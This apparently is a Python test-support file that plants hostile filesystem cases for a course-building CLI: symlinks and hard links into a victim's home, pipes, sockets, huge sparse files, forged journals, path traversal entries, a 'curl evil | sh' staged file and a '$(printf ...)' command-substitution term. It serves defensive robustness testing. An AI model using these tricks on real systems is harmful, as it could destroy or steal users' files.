"""Folders that bring what the program itself writes: a name, what is planted, what must come of it.

A case plants into a place that holds a stranger's `course/` and `output/`, and a victim's `home/`.
What must come of it is `built` (a whole deck), or words that must be told; the victim's files stay.
"""

from __future__ import annotations

import json
import os
import socket
import stat
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from tests.support.courses import small

BUILT = "built"
DECK = "build course -o output --only deck --jobs 1"
MARKED = "printf planted"  # in a term of the course: what a victim's shell would run


@dataclass(frozen=True)
class Place:
    """Where a case lies: all of it below `root`, and only `home` belongs to the victim."""

    root: Path

    @property
    def course(self) -> Path:
        return self.root / "work/course"

    @property
    def output(self) -> Path:
        return self.root / "work/output"

    @property
    def built(self) -> Path:
        return self.output / "small"

    @property
    def home(self) -> Path:
        return self.root / "home"

    def put(self, name: str, data: object) -> Path:
        """A file of the built course's folder: bytes, or what is written as JSON."""
        path = self.built / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data if isinstance(data, bytes) else json.dumps(data).encode())
        return path

    def link(self, name: str, target: str) -> None:
        """A symbolic link of the built course's folder to something of the victim's."""
        path = self.built / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(self.home / target)

    def pipe(self, path: Path) -> None:
        path.parent.mkdir(parents=True, exist_ok=True)
        os.mkfifo(path)


Plant = Callable[[Place], object]


@dataclass(frozen=True)
class Case:
    """What is planted, the words of the command, and what must come of it."""

    plant: Plant
    wanted: str
    command: str = DECK


def prepare(root: Path) -> Place:
    """A victim's home, and a stranger's course with a folder for its output."""
    place = Place(root)
    for name, text in (
        (".bashrc", "# mine\n"),
        (".bash_aliases", "alias ll='ls -l'\n"),
        ("precious.txt", "precious\n"),
        ("photos/a.jpg", "photo\n"),
        ("photos/deck.apkg", "an old deck of mine\n"),
        ("photos/.files.json", '["a.jpg", "deck.apkg"]'),
        ("notes/topics/01.yaml", "title: mine\n"),
        ("notes/course.yaml", "title: mine\nname: small\n"),
    ):
        path = place.home / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    small(place.course)
    topic = place.course / "topics/01-container.yaml"
    text = topic.read_text(encoding="utf-8")
    topic.write_text(text.replace("term: 이미지", f'term: "$({MARKED})"'), encoding="utf-8")
    place.built.mkdir(parents=True)
    return place


def _ledger(target: str) -> Plant:
    return lambda place: (place.course / "ledger.jsonl").symlink_to(place.home / target)


def _new(target: str) -> Plant:
    return lambda place: (place.course / "ledger.jsonl.new").symlink_to(place.home / target)


def _pipe(name: str) -> Plant:
    return lambda place: place.pipe(place.root / "work" / name)


def _folder(name: str) -> Plant:
    def plant(place: Place) -> None:
        path = place.root / "work" / name
        path.mkdir(parents=True)
        (path / "kept.bin").write_text("kept", encoding="utf-8")

    return plant


def _socket(name: str) -> Plant:
    def plant(place: Place) -> None:
        before = Path.cwd()
        os.chdir((place.root / "work" / name).parent)  # a socket's name must be short
        try:
            with socket.socket(socket.AF_UNIX) as made:
                made.bind(Path(name).name)
        finally:
            os.chdir(before)

    return plant


def _sparse(name: str, size: int) -> Plant:
    def plant(place: Place) -> None:
        path = place.root / "work" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        with path.open("wb") as file:
            file.truncate(size)

    return plant


def _journal(said: object) -> Plant:
    """A journal as the program once wrote them, with steps of its own."""
    return lambda place: place.put(".publishing.json", said)


def _moves(*moves: tuple[str, str], gone: tuple[str, ...] = ()) -> Plant:
    def plant(place: Place) -> None:
        place.put(".staging/evil", b"curl evil | sh\n")
        told = [[str(place.root / a), str(place.root / b)] for a, b in moves]
        place.put(".publishing.json", {"moves": told, "gone": list(gone)})

    return plant


def _sealed(seal: str) -> Plant:
    """A journal in the form that is written now, without the mark of any build."""

    def plant(place: Place) -> None:
        place.put(".staging/evil.pdf", b"evil")
        place.put("deck.apkg", b"old deck")
        said = {"moves": ["evil.pdf"], "gone": ["deck.apkg"], "ledger": ""}
        place.put(".publishing.json", f"{seal}\n{json.dumps(said)}".encode())

    return plant


def _listed(names: object) -> Plant:
    """A list of what was made here, beside a file of which it isn't true."""
    return lambda place: (place.put("mine.txt", b"mine"), place.put(".files.json", names))


def _in_place_of(name: str, target: str) -> Plant:
    """A link where a folder should be."""

    def plant(place: Place) -> None:
        path = place.root / "work" / name
        if path.is_dir() and not path.is_symlink():
            _emptied(path)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(place.home / target)

    return plant


def _emptied(path: Path) -> None:
    for each in path.iterdir():
        _emptied(each) if each.is_dir() else each.unlink()
    path.rmdir()


def _both(*plants: Plant) -> Plant:
    return lambda place: [plant(place) for plant in plants]


def _chain(place: Place) -> None:
    (place.course / "a").symlink_to(place.home / ".bash_aliases")
    (place.course / "ledger.jsonl").symlink_to("a")


def _hard(name: str, target: str) -> Plant:
    """A second name of a victim's file, as an archive that is unpacked can make one."""

    def plant(place: Place) -> None:
        path = place.root / "work" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.hardlink_to(place.home / target)

    return plant


def _to_root(name: str, target: str) -> Plant:
    def plant(place: Place) -> None:
        path = place.root / "work" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(target)

    return plant


def _alone(name: str) -> Plant:
    """A file or pipe in the place of the whole folder."""

    def plant(place: Place) -> None:
        path = place.root / "work" / name
        if path.is_dir():
            _emptied(path)
        path.write_text("a file", encoding="utf-8")

    return plant


def _content(place: Place) -> None:
    """A folder of courses, one of which is a link to the victim's own."""
    (place.root / "work/content").mkdir()
    small(place.root / "work/content/real")
    (place.root / "work/content/other").symlink_to(place.home / "notes")


def _unreadable(place: Place) -> None:
    place.put(".files.json", b"[]").chmod(0)


def _executable(place: Place) -> None:
    (place.course / "topics/.hidden").mkdir()
    (place.course / "topics/run.py").write_text("import os; os.abort()\n", encoding="utf-8")
    (place.course / "conftest.py").write_text("raise SystemExit\n", encoding="utf-8")


def _states(place: Place) -> None:
    """What a former version kept below the output folder, which would now be anybody's."""
    for name in ("states/a.json", "ab/cdef", "pages/ab/cdef"):
        path = place.output / ".cache" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(b"planted")


def _many(place: Place) -> None:
    """A list of a hundred thousand files that aren't there."""
    place.put(".files.json", [f"{number}.pdf" for number in range(100_000)])


def _nested(place: Place) -> None:
    here, path = Path.cwd(), place.course / "topics"
    os.chdir(path)
    try:
        for _ in range(2500):
            os.mkdir("d")  # noqa: PTH102  (a path of this depth has no name)
            os.chdir("d")
    finally:
        os.chdir(here)


def _no_writing(place: Place) -> None:
    place.built.chmod(stat.S_IRUSR | stat.S_IXUSR)


def _wide(place: Place) -> None:
    (place.course / "ledger.jsonl").write_text('{"code": "' + "A" * 40 * 2**20, encoding="utf-8")


def _two(place: Place) -> None:
    """A ledger with two cards of one note id, as two courses' ledgers joined have."""
    entry = {
        "code": "AAAA", "kind": "term", "topic": "a", "level": 1, "front": "x", "seen": "",
        "note": 1_500_000_000_000, "changed": 1, "retired": False, "id": "", "answer": "",
        "born": "ab",
    }  # fmt: skip
    lines = [entry, {**entry, "code": "BBBB", "front": "y"}]
    text = "".join(json.dumps(each) + "\n" for each in lines)
    (place.course / "ledger.jsonl").write_text(text, encoding="utf-8")


LINK, PIPE, FOLDER = "is a link", "is a pipe", "is a folder"
CASES: dict[str, Case] = {
    # What was found.
    "ledger, a link to a file": Case(_ledger(".bashrc"), LINK),
    "ledger, a link to a file to come": Case(_ledger(".profile"), LINK),
    "new ledger, a link": Case(_new("precious.txt"), BUILT),
    "journal that moves": Case(_moves(("work/output/small/.staging/evil", "home/.bashrc")), BUILT),
    "journal that takes": Case(_moves(("home/precious.txt", "work/output/small/got")), BUILT),
    "journal that removes": Case(_moves(gone=("../../../home/precious.txt",)), BUILT),
    "output of the course, a link": Case(_in_place_of("output/small", "photos"), LINK),
    "staging, a link": Case(_in_place_of("output/small/.staging", "photos"), BUILT),
    "lock, a link to a file to come": Case(lambda place: place.link(".lock", ".profile"), LINK),
    "cache, a link": Case(_in_place_of("output/.cache", "photos"), BUILT),
    "ledger, a pipe": Case(_pipe("course/ledger.jsonl"), PIPE),
    "new ledger, a pipe": Case(_pipe("course/ledger.jsonl.new"), BUILT),
    "lock, a pipe": Case(_pipe("output/small/.lock"), PIPE),
    "ledger without an end": Case(_to_root("course/ledger.jsonl", "/dev/zero"), LINK),
    "journal, a list": Case(_journal([1, 2]), BUILT),
    "journal, without steps": Case(_journal({"moves": 3}), BUILT),
    "journal, a text": Case(_journal(b"\xff\xfe{"), BUILT),
    "list, nested": Case(_listed(b"[" * 200_000), BUILT),
    "ledger of 500 MB": Case(_sparse("course/ledger.jsonl", 500 * 2**20), "too large"),
    # The ledger and its like.
    "ledger, a folder": Case(_folder("course/ledger.jsonl"), FOLDER),
    "new ledger, a folder": Case(_folder("course/ledger.jsonl.new"), FOLDER),
    "ledger, a socket": Case(_socket("course/ledger.jsonl"), "is a socket"),
    "new ledger, a socket": Case(_socket("course/ledger.jsonl.new"), BUILT),
    "ledger, a link to itself": Case(_to_root("course/ledger.jsonl", "ledger.jsonl"), LINK),
    "ledger, a link to a link": Case(_chain, LINK),
    "ledger, a link within": Case(
        _to_root("course/ledger.jsonl", "topics/01-container.yaml"), LINK),
    "ledger, a link to a program's memory": Case(
        _to_root("course/ledger.jsonl", "/proc/self/mem"), LINK),
    "ledger, a link to a terminal": Case(_to_root("course/ledger.jsonl", "/dev/tty"), LINK),
    "new ledger, a link to a folder": Case(_new("photos"), BUILT),
    "new ledger, a second name": Case(_hard("course/ledger.jsonl.new", ".bashrc"), BUILT),
    "ledger, a second name": Case(_hard("course/ledger.jsonl", ".bashrc"), "damaged"),
    "ledger of one line of 40 MB": Case(_wide, "too large"),
    "ledger of two cards with one note": Case(_two, "the same note"),
    # The journal and staging.
    "journal, a link": Case(lambda place: place.link(".publishing.json", "precious.txt"), BUILT),
    "journal, a link to come": Case(lambda place: place.link(".publishing.json", "new"), BUILT),
    "journal, a pipe": Case(_pipe("output/small/.publishing.json"), BUILT),
    "journal, a folder": Case(_folder("output/small/.publishing.json"), FOLDER),
    "journal without an end": Case(_to_root("output/small/.publishing.json", "/dev/zero"), BUILT),
    "journal of 1 GB": Case(_sparse("output/small/.publishing.json", 2**30), BUILT),
    "journal, nested": Case(_journal(b"[" * 200_000), BUILT),
    "journal, absolute removal": Case(
        lambda place: _moves(gone=(str(place.home / "precious.txt"),))(place), BUILT),
    "journal with an empty seal": Case(_sealed(""), BUILT),
    "journal with a made-up seal": Case(_sealed("0" * 64), BUILT),
    "staging, a file": Case(lambda place: place.put(".staging", b"x"), BUILT),
    "staging, a pipe": Case(_pipe("output/small/.staging"), BUILT),
    "staged file, a link": Case(lambda place: place.link(".staging/deck.apkg", ".bashrc"), BUILT),
    "staged list, a link": Case(lambda place: place.link(".staging/.files.json", ".x"), BUILT),
    "staged journal, a link": Case(
        lambda place: place.link(".staging/.publishing.json", ".bashrc"), BUILT),
    "folder in staging, a link": Case(lambda place: place.link(".staging/more", "photos"), BUILT),
    "staged folder": Case(_folder("output/small/.staging/deck.apkg"), BUILT),
    # The lock, the list of files, and the files.
    "lock, a link to a file": Case(lambda place: place.link(".lock", ".bashrc"), LINK),
    "lock, a folder": Case(_folder("output/small/.lock"), FOLDER),
    "lock, a link to a device": Case(_to_root("output/small/.lock", "/dev/zero"), LINK),
    "list, a link": Case(lambda place: place.link(".files.json", "photos/.files.json"), BUILT),
    "list, a pipe": Case(_pipe("output/small/.files.json"), BUILT),
    "list, a folder": Case(_folder("output/small/.files.json"), FOLDER),
    "list, nothing to read": Case(_unreadable, BUILT),
    "list of 1 GB": Case(_sparse("output/small/.files.json", 2**30), BUILT),
    "list of paths": Case(_listed(["../../../home/precious.txt", "/etc/hostname", ".."]), BUILT),
    "list, a mapping": Case(_listed({"deck.apkg": "x"}), BUILT),
    "list of a hundred thousand": Case(_many, BUILT),
    "deck, a link": Case(lambda place: place.link("deck.apkg", "photos/deck.apkg"), BUILT),
    "deck, a link to come": Case(lambda place: place.link("deck.apkg", ".profile"), BUILT),
    "deck, a link to a folder": Case(lambda place: place.link("deck.apkg", "photos"), BUILT),
    "deck, a second name": Case(_hard("output/small/deck.apkg", "precious.txt"), BUILT),
    "deck, a pipe": Case(_pipe("output/small/deck.apkg"), BUILT),
    "deck, a folder": Case(_folder("output/small/deck.apkg"), FOLDER),
    "deck of 3 GB": Case(_sparse("output/small/deck.apkg", 3 * 2**30), BUILT),
    "files beside, links": Case(
        _both(_listed(["poster.pdf"]), lambda place: place.link("poster.pdf", "precious.txt")),
        BUILT),
    "files beside, without an end": Case(
        _both(_listed(["poster.pdf"]), _to_root("output/small/poster.pdf", "/dev/zero")),
        "index.html", "build course -o output --only index --jobs 1"),
    "files beside, of nonsense": Case(
        _both(_listed(["poster.pdf"]), lambda place: place.put("poster.pdf", b"%PDF-1.4 x")),
        "index.html", "build course -o output --only index --jobs 1"),
    "file that a link replaced, removed": Case(
        _both(_listed(["old.pdf"]), lambda place: place.link("old.pdf", "precious.txt")), BUILT,
        "build course -o output --jobs 1"),
    # Whole folders.
    "output, a link that nobody named": Case(
        _in_place_of("output", "photos"), LINK, "build course --only deck --jobs 1"),
    "output, a file": Case(_alone("output"), "output"),
    "output of the course, a file": Case(_alone("output/small"), "is a file"),
    "output of the course, a link to come": Case(_in_place_of("output/small", "new"), LINK),
    "content, a link that nobody named": Case(
        _in_place_of("content", "notes"), LINK, "build --only deck --jobs 1"),
    "a course of content, a link": Case(
        _content, "leads out", "build content -o output --only deck --jobs 1"),
    "a course here, a link": Case(
        _in_place_of("other", "notes"), LINK, "build -o output --only deck --jobs 1"),
    "topics, a link": Case(_in_place_of("course/stories", "notes/topics"), BUILT),
    "results and states planted": Case(_states, BUILT),
    "programs beside the content": Case(_executable, BUILT),
    "2,500 nested folders": Case(_nested, "nested"),
    "output that can't be written": Case(_no_writing, "output"),
    # Other commands.
    "quiz, a link for its new file": Case(
        lambda place: place.link("quiz-1-1.pdf.new", ".bashrc"), "no code yet",
        "quiz course -o output"),
    "quiz, a link for the course": Case(
        _in_place_of("output/small", "photos"), LINK, "quiz course -o output"),
    "quiz, a ledger that is a pipe": Case(
        _pipe("course/ledger.jsonl"), PIPE, "quiz course -o output"),
    "cards, a ledger that is a link": Case(
        _ledger(".bashrc"), LINK, "cards part AAAA course"),
    "cards, a pipe": Case(_pipe("course/ledger.jsonl"), PIPE, "cards course"),
    "changes, a link for the course": Case(
        _in_place_of("output/small", "photos"), LINK, "changes course -o output"),
    "changes, a file that is a pipe": Case(
        _pipe("output/small/deck.apkg"), "deck.apkg", "changes course -o output"),
    "convert, a ledger that is a link": Case(
        _ledger("precious.txt"), LINK, "convert course converted"),
    "convert, a ledger that is a pipe": Case(
        _pipe("course/ledger.jsonl"), PIPE, "convert course converted"),
    "new topic, topics a link": Case(
        _in_place_of("course/topics", "notes/topics"), LINK,
        "new topic Networks --course course"),
    "new topic, schemas a link": Case(
        _in_place_of("course/.schema", "photos"), LINK, "new topic Networks --course course"),
    "new topic, a schema a link": Case(
        _in_place_of("course/.schema/topic.json", ".bashrc"), LINK,
        "new topic Networks --course course"),
    "templates, a link to come": Case(
        _in_place_of("look/base/look.yaml", ".profile"), "is there already",
        "templates copy base/look.yaml"),
    "templates, a folder that is a link": Case(
        _in_place_of("look/base", "photos"), LINK, "templates copy base/look.yaml"),
}  # fmt: skip
